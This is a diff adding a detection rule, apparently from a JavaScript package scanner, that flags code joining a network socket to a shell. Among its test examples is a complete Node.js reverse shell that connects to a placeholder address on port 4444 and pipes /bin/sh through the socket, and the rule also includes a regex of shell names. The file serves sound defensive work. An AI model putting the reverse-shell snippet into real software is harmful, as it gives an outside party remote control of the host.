@@ -1,0 +1,62 @@
+import { defineRule, step } from '../src/define.js';
+import { networkRootOf } from '../src/vocabulary/apis.js';
+
+const SHELLS = /(?:^|[\\/])(?:sh|bash|zsh|dash|cmd|cmd\.exe|powershell|powershell\.exe|pwsh)$/i;
+
+export default defineRule({
+  meta: {
+    summary: 'Gives a shell to another machine',
+    why: 'A socket joined to a shell is remote control. Terminal servers do this as their purpose, through a pseudo-terminal and a server that listens; a library that dials out has no honest reason.',
+    behaviour: 'execution',
+    messages: { piped: 'Joins a socket to a shell: {command}' },
+  },
+  examples: {
+    flags: [
+      {
+        title: 'a socket is piped into a shell',
+        code: `const net = require('net'), { spawn } = require('child_process');\nconst client = new net.Socket();\nclient.connect(4444, '192.0.2.1', () => {\n  const sh = spawn('/bin/sh', []);\n  client.pipe(sh.stdin);\n  sh.stdout.pipe(client);\n});`,
+      },
+    ],
+    passes: [
+      {
+        title: 'a shell runs a build',
+        code: `const { spawn } = require('child_process');\nconst sh = spawn('/bin/sh', ['-c', 'make']);\nsh.stdout.pipe(process.stdout);`,
+      },
+      {
+        title: 'a download is piped to a file',
+        code: `require('https').get('https://a.invalid', res => res.pipe(require('fs').createWriteStream('a')));`,
+      },
+    ],
+  },
+  file(context) {
+    const shells = context
+      .calls('process')
+      .filter(({ args }) => args[0] && context.textsOf(args[0]).some(text => SHELLS.test(text)));
+    if (shells.length === 0) return;
+    for (const pipe of context.named(/\.pipe$/)) {
+      const target = pipe.args[0] ? context.namesOf(pipe.args[0]) : [];
+      const source = pipe.receiver ? context.namesOf(pipe.receiver) : [];
+      const joined =
+        (source.some(isSocket) && target.some(isProcess)) || (source.some(isProcess) && target.some(isSocket));
+      if (!joined) continue;
+      const [shell] = shells;
+      if (!shell) continue;
+      context.report({
+        messageId: 'piped',
+        data: { command: context.textsOf(shell.args[0] as never)[0] ?? '' },
+        chain: [
+          step('source', 'starts a shell', context.file, shell.node),
+          step('sink', 'joins it to a socket', context.file, pipe.node),
+        ],
+      });
+    }
+  },
+});
+
+function isSocket(name: string): boolean {
+  return networkRootOf(name) !== undefined;
+}
+
+function isProcess(name: string): boolean {
+  return name.startsWith('child_process.');
+}
